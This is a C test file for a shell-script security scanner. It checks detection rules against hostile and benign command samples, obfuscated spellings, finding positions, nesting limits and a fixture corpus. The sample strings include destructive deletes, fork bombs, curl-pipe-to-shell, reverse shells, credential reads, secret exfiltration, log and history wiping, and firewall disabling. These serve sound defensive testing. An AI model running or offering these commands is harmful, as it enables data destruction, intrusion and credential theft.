/* The shell rules: the table itself, each rule on a match and on a near miss, obfuscations,
 * positions, limits, and the corpus under tests/fixtures/scan/shell (hostile scripts carry
 * "# airlock-expect: RULE@LINE" lines; benign ones must raise nothing at high or above). */
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "basic/macros.h"
#include "scan/scan.h"
#include "scan/sh-tokenize.h"

static ScanReport scan(const char *src)
{
        ScanReport r = {};

        cr_assert_eq(scan_shell(src, strlen(src), &r), 0, "%s", src);
        return r;
}

static const ScanFinding *find(const ScanReport *r, const char *id, uint32_t line)
{
        for (size_t i = 0; i < r->n_findings; i++)
                if (strcmp(r->findings[i].rule->id, id) == 0 &&
                    (line == 0 || r->findings[i].line == line))
                        return &r->findings[i];
        return NULL;
}

static int max_severity(const ScanReport *r)
{
        int m = -1;

        for (size_t i = 0; i < r->n_findings; i++)
                m = MAX(m, (int)r->findings[i].rule->severity);
        return m;
}

static char *dump(const ScanReport *r)
{
        char *buf = NULL;
        size_t size = 0;
        FILE *f = open_memstream(&buf, &size);

        for (size_t i = 0; i < r->n_findings; i++)
                fprintf(f, "  %s@%u:%u %s\n", r->findings[i].rule->id, r->findings[i].line,
                        r->findings[i].column, r->findings[i].reason);
        fclose(f);
        return buf;
}

Test(scan_shell, rule_table_is_well_formed)
{
        cr_assert_geq(scan_shell_rules_count, 30);
        for (size_t i = 0; i < scan_shell_rules_count; i++) {
                const ScanRule *a = &scan_shell_rules[i];

                cr_assert_not_null(a->id, "rule %zu", i);
                cr_assert(strncmp(a->id, "SH-", 3) == 0, "%s", a->id);
                cr_assert_eq(a->language, SCAN_LANG_SHELL, "%s", a->id);
                cr_assert_lt(a->severity, _SCAN_SEV_MAX, "%s", a->id);
                cr_assert(a->description && strlen(a->description) > 10, "%s", a->id);
                cr_assert(a->example && *a->example, "%s", a->id);
                for (size_t j = 0; j < i; j++)
                        cr_assert_str_neq(a->id, scan_shell_rules[j].id);
        }
}

/* Each rule's own example triggers it (the limit rule's needs more than one line). */
Test(scan_shell, every_example_triggers_its_rule)
{
        for (size_t i = 0; i < scan_shell_rules_count; i++) {
                const ScanRule *a = &scan_shell_rules[i];
                ScanReport r;

                if (strcmp(a->id, "SH-LIMIT-001") == 0)
                        continue;
                r = scan(a->example);
                cr_expect_not_null(find(&r, a->id, 0), "%s: %s", a->id, a->example);
                scan_report_done(&r);
        }
}

typedef struct Case {
        const char *src;
        const char *id;
        uint32_t line; /* 0: the rule must not fire */
} Case;

/* One or more matches and a near miss per rule. */
static const Case cases[] = {
    {"rm -rf /", "SH-RMRF-001", 1},
    {"rm -r -f /*", "SH-RMRF-001", 1},
    {"rm --recursive --force ~", "SH-RMRF-001", 1},
    {"rm -Rf \"$HOME\"", "SH-RMRF-001", 1},
    {"rm -rf --no-preserve-root /", "SH-RMRF-001", 1},
    {"sudo rm -rf /usr/lib", "SH-RMRF-001", 1},
    {"rm -rf /tmp/../", "SH-RMRF-001", 1},
    {"x=/etc; rm -rf $x", "SH-RMRF-001", 1},
    {"rm -rf ./build", "SH-RMRF-001", 0},
    {"rm -rf \"$TMPDIR/x\"", "SH-RMRF-001", 0},
    {"rm -f /", "SH-RMRF-001", 0},
    {"rm -rf /usr/local/lib/myapp", "SH-RMRF-001", 0},
    {"rm -rf /var/lib/apt/lists/*", "SH-RMRF-001", 0},
    {"HOME=/tmp/h; rm -rf $HOME", "SH-RMRF-001", 0},
    {"echo rm -rf /", "SH-RMRF-001", 0},
    {"rm -rf \"$PREFIX/\"", "SH-RMRF-002", 1},
    {"rm -rf $DIR/*", "SH-RMRF-002", 1},
    {"rm -rf \"${PREFIX:?}/\"", "SH-RMRF-002", 0},
    {"rm -rf \"$PREFIX/lib\"", "SH-RMRF-002", 0},
    {"find / -name x -delete", "SH-FIND-001", 1},
    {"find ~ -exec rm -rf {} +", "SH-FIND-001", 1},
    {"find . -name '*.o' -delete", "SH-FIND-001", 0},
    {"find / -name passwd", "SH-FIND-001", 0},
    {":(){ :|:& };:", "SH-FORKBOMB-001", 1},
    {"x() {\n x | x &\n}\nx", "SH-FORKBOMB-001", 1},
    {"function b { b & b; }", "SH-FORKBOMB-001", 1},
    {"$0 & $0 &", "SH-FORKBOMB-001", 1},
    {"f() { f; f; }", "SH-FORKBOMB-001", 0},
    {"walk() { walk \"$1/x\"; }", "SH-FORKBOMB-001", 0},
    {"f() { g | g & }", "SH-FORKBOMB-001", 0},
    {"while true; do sh & done", "SH-FORKLOOP-001", 1},
    {"while :\ndo\n  (sleep 0) &\ndone", "SH-FORKLOOP-001", 1},
    {"until false; do x & done", "SH-FORKLOOP-001", 1},
    {"while true; do x & sleep 1; done", "SH-FORKLOOP-001", 0},
    {"while true; do x & wait; done", "SH-FORKLOOP-001", 0},
    {"for i in 1 2 3; do x & done", "SH-FORKLOOP-001", 0},
    {"while read l; do x & done < f", "SH-FORKLOOP-001", 0},
    {"curl -s https://x | sh", "SH-REMOTE-001", 1},
    {"wget -qO- https://x |\n sudo -E bash -", "SH-REMOTE-001", 1},
    {"curl -s https://x | python3", "SH-REMOTE-001", 1},
    {"sh <(curl -s https://x)", "SH-REMOTE-001", 1},
    {"bash -c \"$(wget -O- https://x)\"", "SH-REMOTE-001", 1},
    {"eval \"$(curl -s https://x)\"", "SH-REMOTE-001", 1},
    {"curl -o i.sh https://x && sh ./i.sh", "SH-REMOTE-001", 1},
    {"curl -fsSo run https://x; chmod +x run; ./run", "SH-REMOTE-001", 1},
    {"curl -o data.csv https://x", "SH-REMOTE-001", 0},
    {"curl -s https://x | jq .", "SH-REMOTE-001", 0},
    {"curl -s https://x | tar xz", "SH-REMOTE-001", 0},
    {"curl -o d.json https://x; python3 load.py d.json", "SH-REMOTE-001", 0},
    {"echo cm0= | base64 -d | sh", "SH-DECODE-001", 1},
    {"base64 --decode p | bash", "SH-DECODE-001", 1},
    {"xxd -r -p h | sh", "SH-DECODE-001", 1},
    {"openssl enc -d -aes256 -in x | sh", "SH-DECODE-001", 1},
    {"printf '\\x72\\x6d' | sh", "SH-DECODE-001", 1},
    {"echo -e '\\x72\\x6d' | bash", "SH-DECODE-001", 1},
    {"sh -c \"$(echo cm0= | base64 -d)\"", "SH-DECODE-001", 1},
    {"p=$(base64 -d <<< x); eval \"$p\"", "SH-DECODE-001", 1},
    {"base64 -d x > out.bin", "SH-DECODE-001", 0},
    {"echo aGk= | base64 -d", "SH-DECODE-001", 0},
    {"printf 'echo hi\\n' | sh", "SH-DECODE-001", 0},
    {"exec 3<>/dev/tcp/h/80", "SH-DEVTCP-001", 1},
    {"cat < /dev/udp/h/53", "SH-DEVTCP-001", 1},
    {"echo /dev/tcp/h/80", "SH-DEVTCP-001", 0},
    {"bash -i >& /dev/tcp/h/4444 0>&1", "SH-REVSHELL-001", 1},
    {"nc -e /bin/sh h 4444", "SH-REVSHELL-001", 1},
    {"nc -lvnpe /bin/sh 4444", "SH-REVSHELL-001", 1},
    {"ncat --exec /bin/bash h 1", "SH-REVSHELL-001", 1},
    {"socat TCP:h:1 EXEC:/bin/sh", "SH-REVSHELL-001", 1},
    {"cat f | sh -i 2>&1 | nc h 1 > f", "SH-REVSHELL-001", 1},
    {"exec 3<>/dev/tcp/h/1\nsh <&3 >&3", "SH-REVSHELL-001", 2},
    {"nc -z h 80", "SH-REVSHELL-001", 0},
    {"socat TCP-LISTEN:80 TCP:h:8080", "SH-REVSHELL-001", 0},
    {"nc h 80", "SH-NETTOOL-001", 1},
    {"telnet h 25", "SH-NETTOOL-001", 1},
    {"echo nc h 80", "SH-NETTOOL-001", 0},
    {"mkfs.ext4 /dev/sda1", "SH-MKFS-001", 1},
    {"mke2fs /dev/sdb", "SH-MKFS-001", 1},
    {"wipefs -a /dev/sda", "SH-MKFS-001", 1},
    {"truncate -s 1G disk.img; losetup -f disk.img", "SH-MKFS-001", 0},
    {"dd if=/dev/zero of=/dev/sda", "SH-DEVWRITE-001", 1},
    {"shred /dev/nvme0n1", "SH-DEVWRITE-001", 1},
    {"cat x > /dev/sdb", "SH-DEVWRITE-001", 1},
    {"echo 1 | tee /dev/mem", "SH-DEVWRITE-001", 1},
    {"dd if=/dev/zero of=disk.img bs=1M count=1", "SH-DEVWRITE-001", 0},
    {"cat x > /dev/null 2> /dev/stderr", "SH-DEVWRITE-001", 0},
    {"chmod -R 777 /", "SH-CHMOD-001", 1},
    {"chown -R me /usr", "SH-CHMOD-001", 1},
    {"chmod 777 /etc", "SH-CHMOD-001", 1},
    {"chmod -R o+w /var", "SH-CHMOD-001", 1},
    {"chmod -R 755 ./build", "SH-CHMOD-001", 0},
    {"chown -R app:app /home/app", "SH-CHMOD-001", 0},
    {"chmod 600 ~/.ssh/id_rsa", "SH-CHMOD-001", 0},
    {"chmod u+s /bin/bash", "SH-SETUID-001", 1},
    {"chmod 4755 x", "SH-SETUID-001", 1},
    {"chmod 2755 x", "SH-SETUID-001", 1},
    {"chmod +s x", "SH-SETUID-001", 1},
    {"chmod 755 x", "SH-SETUID-001", 0},
    {"chmod u+x,g-s x", "SH-SETUID-001", 0},
    {"echo x >> /etc/sudoers", "SH-ETCWRITE-001", 1},
    {"echo x | sudo tee /etc/hosts", "SH-ETCWRITE-001", 1},
    {"sed -i s/a/b/ /etc/ssh/sshd_config", "SH-ETCWRITE-001", 1},
    {"cp x /etc/ld.so.preload", "SH-ETCWRITE-001", 1},
    {"install -m 644 x -t /etc/profile.d", "SH-ETCWRITE-001", 1},
    {"rm /etc/resolv.conf", "SH-ETCWRITE-001", 1},
    {"cat /etc/os-release", "SH-ETCWRITE-001", 0},
    {"sed s/a/b/ /etc/hosts > hosts", "SH-ETCWRITE-001", 0},
    {"cp /etc/hosts ./hosts.bak", "SH-ETCWRITE-001", 0},
    {"crontab -r", "SH-CRON-001", 1},
    {"crontab jobs.txt", "SH-CRON-001", 1},
    {"(crontab -l; echo x) | crontab -", "SH-CRON-001", 1},
    {"echo x > /etc/cron.d/y", "SH-CRON-001", 1},
    {"echo x >> /var/spool/cron/crontabs/root", "SH-CRON-001", 1},
    {"crontab -l", "SH-CRON-001", 0},
    {"echo x | at now", "SH-AT-001", 1},
    {"batch < jobs", "SH-AT-001", 1},
    {"echo at now", "SH-AT-001", 0},
    {"systemctl enable x", "SH-SERVICE-001", 1},
    {"systemctl --user enable --now x", "SH-SERVICE-001", 1},
    {"update-rc.d x defaults", "SH-SERVICE-001", 1},
    {"cp x.service ~/.config/systemd/user/", "SH-SERVICE-001", 1},
    {"systemctl status x", "SH-SERVICE-001", 0},
    {"systemctl --user restart x", "SH-SERVICE-001", 0},
    {"echo x >> ~/.bashrc", "SH-RCFILE-001", 1},
    {"echo x >> $HOME/.profile", "SH-RCFILE-001", 1},
    {"tee -a ~/.zshrc < x", "SH-RCFILE-001", 1},
    {"cat ~/.bashrc", "SH-RCFILE-001", 0},
    {"source ~/.bashrc", "SH-RCFILE-001", 0},
    {"echo x >> ~/.ssh/authorized_keys", "SH-SSHKEY-001", 1},
    {"cp k /root/.ssh/authorized_keys", "SH-SSHKEY-001", 1},
    {"cat ~/.ssh/authorized_keys", "SH-SSHKEY-001", 0},
    {"history -c", "SH-HISTORY-001", 1},
    {"unset HISTFILE", "SH-HISTORY-001", 1},
    {"export HISTFILE=/dev/null", "SH-HISTORY-001", 1},
    {"HISTSIZE=0", "SH-HISTORY-001", 1},
    {"HISTFILE= bash", "SH-HISTORY-001", 1},
    {"set +o history", "SH-HISTORY-001", 1},
    {"rm ~/.bash_history", "SH-HISTORY-001", 1},
    {": > ~/.bash_history", "SH-HISTORY-001", 1},
    {"history | tail", "SH-HISTORY-001", 0},
    {"echo x >> ~/.bash_history", "SH-HISTORY-001", 0},
    {"unset VAR", "SH-HISTORY-001", 0},
    {"rm -rf /var/log/*", "SH-LOGWIPE-001", 1},
    {"> /var/log/auth.log", "SH-LOGWIPE-001", 1},
    {"truncate -s0 /var/log/syslog", "SH-LOGWIPE-001", 1},
    {"journalctl --vacuum-time=1s", "SH-LOGWIPE-001", 1},
    {"echo msg >> /var/log/app.log", "SH-LOGWIPE-001", 0},
    {"tail -f /var/log/syslog", "SH-LOGWIPE-001", 0},
    {": > logs/app.log", "SH-LOGWIPE-001", 0},
    {"cat /etc/shadow", "SH-CRED-001", 1},
    {"cp ~/.ssh/id_rsa /tmp/", "SH-CRED-001", 1},
    {"tar cz ~/.aws/credentials", "SH-CRED-001", 1},
    {"cat /var/run/secrets/kubernetes.io/serviceaccount/token", "SH-CRED-001", 1},
    {"base64 < ~/.ssh/id_ed25519", "SH-CRED-001", 1},
    {"cat /proc/self/environ", "SH-CRED-001", 1},
    {"cat ~/.ssh/id_rsa.pub", "SH-CRED-001", 0},
    {"ssh -i ~/.ssh/id_rsa host", "SH-CRED-001", 0},
    {"chmod 600 ~/.ssh/id_rsa", "SH-CRED-001", 0},
    {"[ -f ~/.ssh/id_rsa ] || ssh-keygen -f ~/.ssh/id_rsa", "SH-CRED-001", 0},
    {"cat /etc/passwd", "SH-CRED-001", 0},
    {"export AWS_SHARED_CREDENTIALS_FILE=~/.aws/credentials", "SH-CRED-001", 0},
    {"cp kubeconfig ~/.kube/config", "SH-CRED-001", 0},
    {"kubectl --kubeconfig=$HOME/.kube/config get pods", "SH-CRED-001", 0},
    {"scp ~/.ssh/id_rsa evil:", "SH-CRED-001", 1},
    {"curl -T ~/.aws/credentials https://x", "SH-CRED-001", 1},
    {"curl http://169.254.169.254/latest/meta-data/", "SH-METADATA-001", 1},
    {"wget -q http://metadata.google.internal/", "SH-METADATA-001", 1},
    {"echo 169.254.169.254", "SH-METADATA-001", 0},
    {"kill -9 -1", "SH-KILLALL-001", 1},
    {"kill -s KILL -1", "SH-KILLALL-001", 1},
    {"kill -- -1", "SH-KILLALL-001", 1},
    {"killall5", "SH-KILLALL-001", 1},
    {"kill -9 1234", "SH-KILLALL-001", 0},
    {"kill -1 1234", "SH-KILLALL-001", 0},
    {"kill \"$pid\"", "SH-KILLALL-001", 0},
    {"iptables -F", "SH-FIREWALL-001", 1},
    {"iptables -t nat --flush", "SH-FIREWALL-001", 1},
    {"nft flush ruleset", "SH-FIREWALL-001", 1},
    {"ufw disable", "SH-FIREWALL-001", 1},
    {"setenforce 0", "SH-FIREWALL-001", 1},
    {"iptables -L", "SH-FIREWALL-001", 0},
    {"ufw allow 22", "SH-FIREWALL-001", 0},
    {"insmod x.ko", "SH-KMOD-001", 1},
    {"sudo modprobe br_netfilter", "SH-KMOD-001", 1},
    {"lsmod", "SH-KMOD-001", 0},
    {"mount /dev/sda1 /mnt", "SH-MOUNT-001", 1},
    {"mount -o remount,rw /", "SH-MOUNT-001", 1},
    {"mount", "SH-MOUNT-001", 0},
    {"mount | grep proc", "SH-MOUNT-001", 0},
    {"nsenter -t 1 -m -p sh", "SH-NSENTER-001", 1},
    {"echo nsenter", "SH-NSENTER-001", 0},
    {"unshare -r id", "SH-UNSHARE-001", 1},
    {"chattr +i f", "SH-CHATTR-001", 1},
    {"lsattr f", "SH-CHATTR-001", 0},
    {"'r''m' x", "SH-OBFUSC-001", 1},
    {"r\\m x", "SH-OBFUSC-001", 1},
    {"$'\\x72\\x6d' x", "SH-OBFUSC-001", 1},
    {"\"$x\" y", "SH-OBFUSC-001", 0},
    {"rm x", "SH-OBFUSC-001", 0},
    {"\"./configure\" --prefix=/usr", "SH-OBFUSC-001", 0},
    {"$cmd arg", "SH-DYNEXEC-001", 1},
    {"$(which python) x.py", "SH-DYNEXEC-001", 1},
    {"cmd=ls; $cmd", "SH-DYNEXEC-001", 0},
};

Test(scan_shell, each_rule_matches_and_misses)
{
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                ScanReport r = scan(cases[i].src);
                const ScanFinding *f = find(&r, cases[i].id, 0);
                char *d = dump(&r);

                if (cases[i].line == 0)
                        cr_expect_null(f, "%s: unexpected %s\n%s", cases[i].src, cases[i].id, d);
                else {
                        cr_expect_not_null(f, "%s: no %s\n%s", cases[i].src, cases[i].id, d);
                        if (f)
                                cr_expect_eq(f->line, cases[i].line, "%s: line %u", cases[i].src,
                                             f->line);
                }
                free(d);
                scan_report_done(&r);
        }
}

/* Every rule but the limit one has a case that fires it. */
Test(scan_shell, every_rule_has_a_positive_case)
{
        for (size_t k = 0; k < scan_shell_rules_count; k++) {
                bool seen = strcmp(scan_shell_rules[k].id, "SH-LIMIT-001") == 0;

                for (size_t i = 0; i < ELEMENTSOF(cases) && !seen; i++)
                        seen = cases[i].line && strcmp(cases[i].id, scan_shell_rules[k].id) == 0;
                cr_expect(seen, "%s has no positive case", scan_shell_rules[k].id);
        }
}

/* The same command, spelled to slip past a text match. */
Test(scan_shell, obfuscated_spellings_are_caught)
{
        static const char *const rm_root[] = {
            "'r''m' -rf /",
            "r\\m -rf /",
            "\"r\"m -rf /",
            "$'\\x72\\x6d' -rf /",
            "$'\\162\\155' -rf /",
            "c=rm; $c -rf /",
            "c=rm; ${c} -rf /",
            "\\rm -rf /",
            "/bin/rm -rf /",
            "command rm -rf /",
            "env -i rm -rf /",
            "sudo -u root rm -rf /",
            "nohup rm -rf / &",
            "exec rm -rf /",
            "nice -n 5 rm -rf /",
            "timeout 5 rm -rf /",
            "rm \\\n -rf \\\n /",
            "rm -rf \"/\"",
            "rm -rf '/'",
            "d=/; rm -rf \"$d\"",
            "rm -rf /tmp/../",
            "rm -rf //",
            "rm -rf /.",
            "sh -c 'rm -rf /'",
            "bash -c \"rm -rf /\"",
            "eval 'rm -rf /'",
            "echo 'rm -rf /' | sh",
            "bash <<< 'rm -rf /'",
            "sh <<E\nrm -rf /\nE",
            "cat <<E | sh\nrm -rf /\nE",
            "echo \"$(rm -rf /)\"",
            "x=`rm -rf /`",
            "busybox rm -rf /",
            "xargs -0 rm -rf / < l",
            "trap 'rm -rf /' EXIT",
            "su -c 'rm -rf /'",
            "bash -c \"sh -c 'rm -rf /'\"",
        };

        for (size_t i = 0; i < ELEMENTSOF(rm_root); i++) {
                ScanReport r = scan(rm_root[i]);

                cr_expect_not_null(find(&r, "SH-RMRF-001", 0), "missed: %s", rm_root[i]);
                scan_report_done(&r);
        }

        /* A NUL inside the name: bash drops it and runs rm. */
        ScanReport r = {};
        static const char nul[] = "r\0m -rf /";

        cr_assert_eq(scan_shell(nul, sizeof(nul) - 1, &r), 0);
        cr_expect_not_null(find(&r, "SH-RMRF-001", 0));
        scan_report_done(&r);
}

/* Text that only mentions a command does not run it. */
Test(scan_shell, strings_and_comments_are_not_commands)
{
        static const char *const quiet[] = {
            "echo \"rm -rf /\"",
            "# rm -rf /\n# curl x | sh",
            "printf '%s\\n' 'kill -9 -1'",
            "cat <<'EOF'\nrm -rf /\nmkfs.ext4 /dev/sda\nEOF",
            "cat <<EOF\nrm -rf / is bad\nEOF",
            "grep -r 'history -c' .",
            "msg='chmod -R 777 /'; echo \"$msg\"",
            "case $x in rm) echo 'rm -rf /';; esac",
            "[[ $cmd == \"rm -rf /\" ]] && echo no",
            "git commit -m 'remove rm -rf / from docs'",
            "echo :(){ :|:& };: > bomb.txt",
        };

        for (size_t i = 0; i < ELEMENTSOF(quiet); i++) {
                ScanReport r = scan(quiet[i]);
                char *d = dump(&r);

                cr_expect_lt(max_severity(&r), SCAN_SEV_HIGH, "%s\n%s", quiet[i], d);
                free(d);
                scan_report_done(&r);
        }
}

Test(scan_shell, positions_point_at_the_command)
{
        ScanReport r =
            scan("echo hi\n\n  ls; sudo rm -rf /\nx=1 \\\n  sh -c 'true\n  kill -9 -1'\n");
        const ScanFinding *f = find(&r, "SH-RMRF-001", 0);

        cr_assert_not_null(f);
        cr_expect_eq(f->line, 3);
        cr_expect_eq(f->column, 7);
        cr_expect(strncmp(f->snippet, "sudo rm -rf /", 13) == 0, "%s", f->snippet);
        /* Inside an sh -c string: the line of the inner command. */
        f = find(&r, "SH-KILLALL-001", 0);
        cr_assert_not_null(f);
        cr_expect_eq(f->line, 6);
        cr_expect_eq(f->column, 3);
        scan_report_done(&r);
}

static char *repeat(const char *unit, size_t times, const char *tail)
{
        size_t u = strlen(unit), t = strlen(tail);
        char *s = malloc(u * times + t + 1);

        cr_assert_not_null(s);
        for (size_t i = 0; i < times; i++)
                memcpy(s + i * u, unit, u);
        memcpy(s + u * times, tail, t + 1);
        return s;
}

Test(scan_shell, nesting_past_the_limits_is_reported)
{
        char *deep = repeat("$(", 200, "rm -rf /");
        char *nested = strdup("rm -rf /");
        ScanReport r = scan(deep);

        cr_expect_not_null(find(&r, "SH-LIMIT-001", 1));
        scan_report_done(&r);
        free(deep);

        /* sh -c 'sh -c ...' twenty deep: the strings past SCRIPT_DEPTH are not scanned. */
        for (int i = 0; i < 20; i++) {
                char *next;

                cr_assert(asprintf(&next, "sh -c %s", nested) > 0);
                free(nested);
                nested = next;
                if (i < 19) { /* quote for the next level, without quotes in quotes */
                        char *q = malloc(strlen(nested) * 2 + 3), *o = q;

                        *o++ = '"';
                        for (const char *p = nested; *p; p++) {
                                if (*p == '"' || *p == '\\')
                                        *o++ = '\\';
                                *o++ = *p;
                        }
                        *o++ = '"';
                        *o = '\0';
                        free(nested);
                        nested = q;
                }
        }
        r = scan(nested);
        cr_expect_not_null(find(&r, "SH-LIMIT-001", 0));
        scan_report_done(&r);
        free(nested);
}

/* 1 MiB scripts of several shapes: a quadratic matcher would not finish in time. */
Test(scan_shell, large_scripts_are_linear, .timeout = 60)
{
        static const char *const units[] = {
            "curl -o f https://x; rm -rf ./b; x=$(ls \"$y\") && echo \"$x\" | grep z\n",
            "c=rm; $c -rf /\n",
            "f() { f | f & }\n",
            "while true; do x & done\n",
            "sh -c 'echo hi'\n",
            "echo \"$(echo $(echo $(echo hi)))\"\n",
        };

        for (size_t u = 0; u < ELEMENTSOF(units); u++) {
                char *s = repeat(units[u], (1u << 20) / strlen(units[u]), "");
                ScanReport r = {};

                cr_assert_eq(scan_shell(s, strlen(s), &r), 0);
                scan_report_done(&r);
                free(s);
        }
}

/* ---- the corpus ---- */

static const char *fixtures_dir(void)
{
        /* Meson runs tests from the build directory and compiles this file by a path relative
         * to it: the fixtures are found from __FILE__ (or AIRLOCK_FIXTURES when set). */
        static char dir[4096];
        const char *env = getenv("AIRLOCK_FIXTURES");
        const char *slash = strrchr(__FILE__, '/');

        if (env)
                snprintf(dir, sizeof(dir), "%s/scan/shell", env);
        else
                snprintf(dir, sizeof(dir), "%.*s/../../fixtures/scan/shell",
                         (int)(slash ? slash - __FILE__ : 1), slash ? __FILE__ : ".");
        return dir;
}

static char *read_file(const char *path, size_t *ret_len)
{
        FILE *f = fopen(path, "rb");
        char *buf;
        long n;

        cr_assert_not_null(f, "%s: %m", path);
        cr_assert_eq(fseek(f, 0, SEEK_END), 0);
        n = ftell(f);
        rewind(f);
        buf = malloc((size_t)n + 1);
        cr_assert_not_null(buf);
        cr_assert_eq(fread(buf, 1, (size_t)n, f), (size_t)n);
        buf[n] = '\0';
        fclose(f);
        *ret_len = (size_t)n;
        return buf;
}

typedef struct Expect {
        char id[64];
        uint32_t line;
} Expect;

/* Checks one file; returns how many expectations it had. */
static size_t check_fixture(const char *dir, const char *name, bool hostile)
{
        char path[8192], *data, *line, *save = NULL, *d;
        Expect exp[256];
        size_t n_exp = 0, len;
        ScanReport r = {};

        snprintf(path, sizeof(path), "%s/%s", dir, name);
        data = read_file(path, &len);
        cr_assert_eq(scan_shell(data, len, &r), 0, "%s", name);
        d = dump(&r);
        for (line = strtok_r(data, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
                Expect e = {};

                if (sscanf(line, "# airlock-expect: %63[^@]@%u", e.id, &e.line) != 2)
                        continue;
                cr_assert_lt(n_exp, ELEMENTSOF(exp));
                exp[n_exp++] = e;
        }
        for (size_t i = 0; i < n_exp; i++)
                cr_expect_not_null(find(&r, exp[i].id, exp[i].line), "%s: missing %s@%u\n%s", name,
                                   exp[i].id, exp[i].line, d);
        for (size_t i = 0; i < r.n_findings; i++) {
                const ScanFinding *f = &r.findings[i];
                bool expected = false;

                for (size_t k = 0; k < n_exp && !expected; k++)
                        expected = strcmp(exp[k].id, f->rule->id) == 0 && exp[k].line == f->line;
                if (hostile && f->rule->severity >= SCAN_SEV_MEDIUM)
                        cr_expect(expected, "%s: unexpected %s@%u (%s)", name, f->rule->id, f->line,
                                  f->reason);
                if (!hostile)
                        cr_expect(expected || f->rule->severity < SCAN_SEV_HIGH,
                                  "%s: benign script raised %s@%u (%s)", name, f->rule->id, f->line,
                                  f->reason);
        }
        free(d);
        free(data);
        scan_report_done(&r);
        return n_exp;
}

static size_t check_corpus(const char *kind, bool hostile, size_t *ret_expects)
{
        char dir[4200];
        struct dirent **names = NULL;
        size_t files = 0, expects = 0;
        int n;

        snprintf(dir, sizeof(dir), "%s/%s", fixtures_dir(), kind);
        n = scandir(dir, &names, NULL, alphasort);
        cr_assert_geq(n, 0, "%s: %m", dir);
        for (int i = 0; i < n; i++) {
                size_t l = strlen(names[i]->d_name);

                if (l > 3 && strcmp(names[i]->d_name + l - 3, ".sh") == 0) {
                        size_t e = check_fixture(dir, names[i]->d_name, hostile);

                        if (hostile)
                                cr_expect_gt(e, 0, "%s has no airlock-expect line",
                                             names[i]->d_name);
                        expects += e;
                        files++;
                }
                free(names[i]);
        }
        free(names);
        *ret_expects = expects;
        return files;
}

Test(scan_shell, hostile_corpus_raises_what_it_expects)
{
        size_t expects, files = check_corpus("hostile", true, &expects);

        cr_assert_geq(files, 20);
        cr_assert_geq(expects, files);
}

Test(scan_shell, benign_corpus_raises_nothing_high)
{
        size_t expects, files = check_corpus("benign", false, &expects);

        cr_assert_geq(files, 20);
}
